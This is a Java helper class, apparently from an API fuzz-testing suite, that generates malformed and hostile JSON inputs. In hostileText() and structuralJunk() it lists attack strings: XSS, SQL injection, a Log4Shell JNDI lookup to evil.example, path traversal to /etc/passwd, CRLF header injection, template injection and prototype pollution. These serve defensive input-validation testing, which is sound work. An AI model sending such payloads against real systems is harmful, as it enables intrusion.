package dev.carrier.e2e.fuzz;

import java.nio.charset.StandardCharsets;

import dev.carrier.e2e.support.Gen;

/**
 * JSON fragments a fuzz case is made of: values of the wrong type, hostile strings,
 * bodies that are no JSON object at all. Each generator returns JSON text, ready to be
 * put after a field name.
 */
final class JsonValues {

	private JsonValues() {
	}

	static String quote(String text) {
		StringBuilder json = new StringBuilder("\"");
		for (char c : text.toCharArray()) {
			switch (c) {
				case '"' -> json.append("\\\"");
				case '\\' -> json.append("\\\\");
				default -> {
					if (c < 0x20) {
						json.append(String.format("\\u%04x", (int) c));
					}
					else {
						json.append(c);
					}
				}
			}
		}
		return json.append('"').toString();
	}

	static String deep(int depth, String open, String close) {
		return open.repeat(depth) + close.repeat(depth);
	}

	/** JSON values of the wrong type where a string is due. */
	static Gen<String> notAString() {
		return Gen.oneOf(
				Gen.of("123", "-1", "0", "1.5", "1e400", "true", "false", "[]", "[\"a\"]", "{}", "{\"$gt\":\"\"}",
						"{\"a\":{\"b\":{}}}", "[null]", "99999999999999999999999999"),
				Gen.integers(1, 100_000).map(String::valueOf),
				Gen.of(deep(5_000, "[", "]"), deep(2_000, "{\"a\":", "}").replace("{\"a\":}", "{\"a\":1}")));
	}

	/** JSON values of the wrong type where a number is due. */
	static Gen<String> notANumber() {
		return Gen.oneOf(
				Gen.of("\"abc\"", "\"1\"", "\"\"", "true", "[]", "[1]", "{}", "\"NaN\"", "1.5", "-1", "-9999999999",
						"99999999999999999999999999", "1e400", "-0.0", "\"0x10\"", "\"1; DROP TABLE\""),
				Gen.of(deep(5_000, "[", "]")));
	}

	/**
	 * Strings that are hostile whatever their field: control characters, odd unicode,
	 * injections.
	 */
	static Gen<String> hostileText() {
		return Gen.oneOf(Gen.of("\u0000", "\u0000\u0001\u0002", "\u202Eevil", "\uFEFF", "\uD800", "\uDFFF\uD800",
				"<script>alert(1)</script>", "' OR '1'='1' --", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
				"%00", "\r\nX-Injected: 1", "😀😀😀", "null", "undefined", "*", "%", "_", "\\", "\"", "{{7*7}}"),
				Gen.strings('\u0000', '\u001f', 1, 20), Gen.strings('\u0080', '\uffff', 1, 40), Gen.anyStrings(1, 40));
	}

	static Gen<String> huge() {
		return Gen.integers(5_000, 300_000).map(n -> "x".repeat(n));
	}

	static Gen<String> validUsername() {
		return Gen.strings('a', 'z', 10, 10).map(s -> "fz_" + s);
	}

	static Gen<String> invalidUsername() {
		return Gen.oneOf(
				Gen.of("", "a", "ab", "a b", "ü_ser", "user!", "user/x", "x".repeat(33)).map(JsonValues::quote),
				hostileText().filter(t -> !t.matches("[A-Za-z0-9_.-]{3,32}")).map(JsonValues::quote),
				huge().map(JsonValues::quote), notAString(), Gen.just("null"));
	}

	static Gen<String> invalidEmail() {
		return Gen.oneOf(
				Gen.of("", "no-at-sign", "@", "a@", "@b.c", "a b@c.d", "a@b@c", "<a@b.c>").map(JsonValues::quote),
				huge().map(JsonValues::quote), notAString(), Gen.just("null"),
				hostileText().filter(t -> !t.contains("@")).map(JsonValues::quote));
	}

	static Gen<String> invalidPassword() {
		return Gen.oneOf(Gen.of("", "short", "1234567", "x".repeat(129)).map(JsonValues::quote),
				huge().map(JsonValues::quote), notAString(), Gen.just("null"));
	}

	/** Bodies that are not the JSON object any endpoint wants. */
	static Gen<String> structuralJunk() {
		return Gen.oneOf(Gen.of("", "{", "}", "[]", "[{}]", "null", "true", "42", "\"text\"", "{\"a\":}", "{'a':'b'}",
				"{\"a\":1,}", "{\"a\" 1}", "\uFEFF{}", "{\"a\":\"\u0000\"}", "{\"a\":\"\\ud800\"}", "{\"a\":NaN}",
				"{\"a\":Infinity}", "{\"a\":01}", "{\"a\":\"\\x41\"}", "<?xml version=\"1.0\"?><a/>", "a=b&c=d",
				"{\"__proto__\":{\"admin\":true}}", "{\"a\":1}{\"b\":2}", "/* c */ {}", "{\"a\":\"b\"// c\n}"),
				Gen.of(deep(100_000, "[", "]"), deep(20_000, "{\"a\":", "}").replace("{\"a\":}", "{\"a\":1}"),
						"[" + "1,".repeat(200_000) + "1]"),
				hostileText(), huge().map(h -> "{\"" + h + "\":1}"));
	}

	static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

}
